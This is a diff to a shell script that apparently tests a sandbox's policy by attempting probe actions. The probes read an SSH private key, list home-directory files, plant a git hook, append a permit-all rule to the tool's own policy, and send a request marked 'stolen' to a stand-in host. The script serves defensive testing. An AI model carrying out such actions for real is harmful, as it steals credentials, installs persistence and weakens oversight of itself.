@@ -9,12 +9,12 @@ read_readme() { cat README; }
 write_file() { echo 'first draft' > notes.txt; }
 rename_file() { mv notes.txt report.txt; }
 read_key() { cat "$HOME/.ssh/id_ed25519"; }
-plant_start_file() { echo 'echo gotcha' >> "$HOME/.profile"; }
+look_around() { ls "$HOME/.bash_history" "$HOME/.profile" "$HOME/Documents"; }
 loosen_policy() { echo 'permit(principal, action, resource);' >> .ringfence/policy.cedar; }
-plant_hook() { mkdir -p .git/hooks && echo 'echo gotcha' > .git/hooks/post-commit; }
+plant_hook() { echo 'echo gotcha' > .git/hooks/post-commit; }
 phone_home() {
     if command -v curl > /dev/null; then
-        curl --silent --show-error --max-time 5 http://example.com/?stolen=1
+        curl --silent --show-error --fail-with-body --max-time 5 http://example.com/?stolen=1
     else
         python3 -c 'import urllib.request as u; u.urlopen("http://example.com/?stolen=1", timeout=5)'
     fi
@@ -24,7 +24,7 @@ try 'I read the project' read_readme
 try 'I write a file' write_file
 try 'I rename it' rename_file
 try 'I read a private key' read_key
-try 'I add a line to what your shell runs at login' plant_start_file
+try 'I look around in your home' look_around
 try 'I loosen my own policy' loosen_policy
 try 'I plant a git hook' plant_hook
 try 'I send something to a stranger' phone_home
